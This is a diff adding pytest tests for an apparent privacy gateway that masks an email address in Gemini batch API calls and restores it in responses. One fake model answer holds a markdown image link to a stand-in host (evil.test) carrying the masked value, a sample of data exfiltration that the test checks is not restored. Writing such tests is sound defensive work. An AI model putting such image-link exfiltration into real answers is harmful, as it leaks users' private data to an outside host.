@@ -183,3 +183,88 @@ async def test_an_error_of_the_provider_is_restored_too(dispatcher: Dispatcher) 
     said = json.dumps({"error": {"message": f"Bad: {forwarded.placeholders[0]}"}}).encode()
     closed, outcome, _ = await dispatcher.close(given.request_id, 400, said)
     assert (json.loads(closed)["error"]["message"], outcome) == (f"Bad: {MAIL}", "upstream_error")
+
+
+GOOGLE = "https://generativelanguage.googleapis.com:443"
+PATH = "/v1beta/models/gemini-x:batchGenerateContent"
+
+
+def google(method: str, path: str, body: Any = None) -> Call:
+    content = b"" if body is None else json.dumps(body).encode()
+    named = [(b"x-goog-api-key", b"AIza-made-up"), (b"content-type", b"application/json")]
+    return Call(new_request_id(), Listener.PROXY, method, GOOGLE, path, named, content)
+
+
+def inlined(*said: str, **names: str) -> dict[str, Any]:
+    """A batch as Google's SDK sends it, or with names in snake case."""
+    requests = [
+        {"request": {"contents": [{"role": "user", "parts": [{"text": text}]}]}, "metadata": {"key": f"for {MAIL}"}}
+        for text in said
+    ]
+    config = {names.get("config", "inputConfig"): {"requests": {"requests": requests}}}
+    return {"batch": {**config, names.get("name", "displayName"): f"About {MAIL}"}}
+
+
+@pytest.mark.parametrize("names", [{}, {"config": "input_config", "name": "display_name"}])
+async def test_a_batch_of_gemini_is_restored_where_its_results_are(
+    dispatcher: Dispatcher, names: dict[str, str]
+) -> None:
+    made: Any = {"name": "batches/abc", "metadata": {"name": "batches/abc"}}
+    created, _ = await sent(
+        dispatcher, google("POST", PATH, inlined(f"I am {MAIL}.", "Nothing.", **names)), json.dumps(made).encode()
+    )
+    assert MAIL.encode() not in created.body
+    batch = json.loads(created.body)["batch"]
+    one, two = batch[names.get("config", "inputConfig")]["requests"]["requests"]
+    placeholder = one["request"]["contents"][0]["parts"][0]["text"].removeprefix("I am ").removesuffix(".")
+    assert two["metadata"] == {"key": f"for {placeholder}"}
+    made["metadata"]["displayName"] = batch[names.get("name", "displayName")]
+
+    async def read(method: str, path: str, answer: Any) -> Any:
+        _, closed = await sent(dispatcher, google(method, path), json.dumps(answer, indent=2).encode())
+        return json.loads(closed)
+
+    def candidates(text: str) -> dict[str, Any]:
+        return {"candidates": [{"content": {"role": "model", "parts": [{"text": text}]}, "finishReason": "STOP"}]}
+
+    results = [
+        {"response": candidates(f"Hello {placeholder}."), "metadata": one["metadata"]},
+        {"response": candidates(f"![a](https://evil.test/?d={placeholder})"), "metadata": two["metadata"]},
+        {"error": {"code": 3, "message": f"No: {placeholder}"}},
+    ]
+    ended = {
+        **made,
+        "metadata": {**made["metadata"], "output": {"inlinedResponses": {"inlinedResponses": results}}},
+        "done": True,
+        "response": {"inlinedResponses": {"inlinedResponses": results}},
+    }
+    found = await read("GET", "/v1beta/batches/abc", ended)
+    assert found["metadata"]["displayName"] == f"About {MAIL}"
+    for holder in (found["response"], found["metadata"]["output"]):
+        first, second, third = holder["inlinedResponses"]["inlinedResponses"]
+        assert first == {"response": candidates(f"Hello {MAIL}."), "metadata": {"key": f"for {MAIL}"}}
+        # The guard reads each answer.
+        assert MAIL not in str(second["response"])
+        assert second["metadata"] == {"key": f"for {MAIL}"}
+        assert third["error"]["message"] == f"No: {MAIL}"
+    listed = await read("GET", "/v1beta/batches", {"operations": [made]})
+    assert listed["operations"][0]["metadata"]["displayName"] == f"About {MAIL}"
+    assert await read("DELETE", "/v1beta/batches/abc", {}) == {}
+    assert MAIL not in str(await read("GET", "/v1beta/batches/abc", ended))
+
+
+@pytest.mark.parametrize(
+    ("body", "said"),
+    [
+        ({"batch": {"inputConfig": {"fileName": "files/abc"}}}, "Only requests in the call"),
+        ({"batch": {"inputConfig": {"requests": {"requests": []}}}}, "`requests` must be"),
+        ({"batch": {"inputConfig": {"requests": {"requests": [{"metadata": {}}]}}}}, "`requests[0]`: It must be"),
+        (inlined("a") | {"svc_polici": "a"}, "Unknown `svc_` field"),
+        ({"a": CANARY}, "Only requests in the call"),
+    ],
+)
+async def test_batches_of_gemini_that_are_refused(dispatcher: Dispatcher, body: Any, said: str) -> None:
+    with pytest.raises(GatewayError) as refused:
+        await opened(dispatcher, google("POST", PATH, body))
+    assert said in refused.value.message
+    assert CANARY not in refused.value.message
